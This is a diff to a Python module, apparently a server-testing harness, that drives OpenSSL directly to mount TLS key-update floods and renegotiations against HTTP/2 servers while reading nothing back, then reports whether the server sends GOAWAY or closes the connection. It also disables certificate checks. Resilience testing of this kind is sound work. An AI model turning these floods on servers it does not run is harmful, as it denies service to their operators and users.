@@ -1,10 +1,13 @@
-"""TLS with updates of keys, which Python's ssl cannot make: it calls its OpenSSL directly."""
+"""Attacks below HTTP/2 that Python's ssl cannot make: they call its OpenSSL directly."""
 
 import ctypes
 import ctypes.util
 import socket
 import struct
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 
+SSL_CTRL_SET_MAX_PROTO_VERSION, TLS1_2_VERSION = 124, 0x0303
 KEY_UPDATE_NOT_REQUESTED, KEY_UPDATE_REQUESTED = 0, 1
 
 
@@ -15,6 +18,7 @@ def _library() -> ctypes.CDLL:
         ("TLS_client_method", pointer, []),
         ("SSL_CTX_new", pointer, [pointer]),
         ("SSL_CTX_free", None, [pointer]),
+        ("SSL_CTX_ctrl", ctypes.c_long, [pointer, integer, ctypes.c_long, pointer]),
         ("SSL_new", pointer, [pointer]),
         ("SSL_free", None, [pointer]),
         ("SSL_set_fd", integer, [pointer, integer]),
@@ -22,6 +26,7 @@ def _library() -> ctypes.CDLL:
         ("SSL_connect", integer, [pointer]),
         ("SSL_do_handshake", integer, [pointer]),
         ("SSL_key_update", integer, [pointer, integer]),
+        ("SSL_renegotiate", integer, [pointer]),
         ("SSL_write", integer, [pointer, ctypes.c_char_p, integer]),
         ("SSL_read", integer, [pointer, ctypes.c_char_p, integer]),
     ]:
@@ -31,16 +36,20 @@ def _library() -> ctypes.CDLL:
 
 
 class RawTLS:
-    """A connection that trusts every certificate, with the methods of a socket and a small buffer for received bytes."""
+    """A connection that trusts every certificate."""
 
-    def __init__(self, connection: socket.socket):
-        self.library, self.socket = _library(), connection
+    def __init__(self, connect: Callable[[], socket.socket], is_older: bool = False, receive_bytes: int = 0):
+        self.library = _library()
+        self.socket = connect()
         # OpenSSL uses the descriptor directly, so it must block. The system enforces the time-out.
         self.socket.settimeout(None)
         for option in (socket.SO_RCVTIMEO, socket.SO_SNDTIMEO):
             self.socket.setsockopt(socket.SOL_SOCKET, option, struct.pack("ll", 30, 0))
-        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        if receive_bytes:
+            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
         self.context = self.library.SSL_CTX_new(self.library.TLS_client_method())
+        if is_older:
+            self.library.SSL_CTX_ctrl(self.context, SSL_CTRL_SET_MAX_PROTO_VERSION, TLS1_2_VERSION, None)
         self.ssl = self.library.SSL_new(self.context)
         self.library.SSL_set_alpn_protos(self.ssl, b"\x02h2", 3)
         self.library.SSL_set_fd(self.ssl, self.socket.fileno())
@@ -52,19 +61,50 @@ class RawTLS:
         self.library.SSL_CTX_free(self.context)
         self.socket.close()
 
-    def settimeout(self, _: float) -> None:
-        """Leaves the time-out unchanged."""
+    def send(self, data: bytes) -> bool:
+        return self.library.SSL_write(self.ssl, data, len(data)) == len(data)
 
-    def sendall(self, data: bytes) -> None:
-        if self.library.SSL_write(self.ssl, data, len(data)) != len(data):
-            raise ConnectionError("nothing more is taken")
-
-    def recv(self, size: int) -> bytes:
-        """Returns the received bytes; empty at the end of the connection."""
-        room = ctypes.create_string_buffer(size)
-        count = self.library.SSL_read(self.ssl, room, size)
-        return room.raw[: max(0, count)]
-
-    def update_key(self, kind: int) -> bool:
+    def update_key(self, kind: int = KEY_UPDATE_REQUESTED) -> bool:
         """Returns false if the server accepts no more bytes."""
         return self.library.SSL_key_update(self.ssl, kind) == 1 and self.library.SSL_do_handshake(self.ssl) == 1
+
+    def renegotiate(self) -> bool:
+        return self.library.SSL_renegotiate(self.ssl) == 1 and self.library.SSL_do_handshake(self.ssl) == 1
+
+    def receive(self) -> bytes:
+        """Returns the received bytes; empty at the end of the connection."""
+        room = ctypes.create_string_buffer(65536)
+        count = self.library.SSL_read(self.ssl, room, len(room))
+        return room.raw[: max(0, count)]
+
+
+@contextmanager
+def raw_tls(connect: Callable[[], socket.socket], receive_bytes: int = 0) -> Iterator[RawTLS]:
+    made = RawTLS(connect, receive_bytes=receive_bytes)
+    try:
+        yield made
+    finally:
+        made.close()
+
+
+def outcome(attacker: RawTLS) -> str:
+    """Returns `GOAWAY code`, or `closed`."""
+    received = b""
+    while more := attacker.receive():
+        received += more
+    while len(received) >= 9:
+        end = 9 + int.from_bytes(received[:3], "big")
+        if received[3] == 7:
+            return f"GOAWAY {int.from_bytes(received[13:17], 'big')}"
+        received = received[end:]
+    return "closed"
+
+
+def key_updates(connect: Callable[[], socket.socket], opening: bytes, kind: int, count: int) -> str:
+    """Requests one new key after another, and reads nothing."""
+    with raw_tls(connect, receive_bytes=4096) as attacker:
+        attacker.send(opening)
+        for _ in range(count):
+            if not attacker.update_key(kind):
+                break
+        return outcome(attacker)
